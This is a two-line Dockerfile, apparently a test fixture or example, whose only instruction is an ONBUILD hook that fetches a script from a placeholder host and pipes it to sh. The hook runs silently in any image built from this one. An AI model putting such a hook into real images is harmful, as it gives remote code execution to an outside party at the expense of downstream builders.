FROM debian:bookworm-slim
ONBUILD RUN wget -O- https://example.com/i | sh
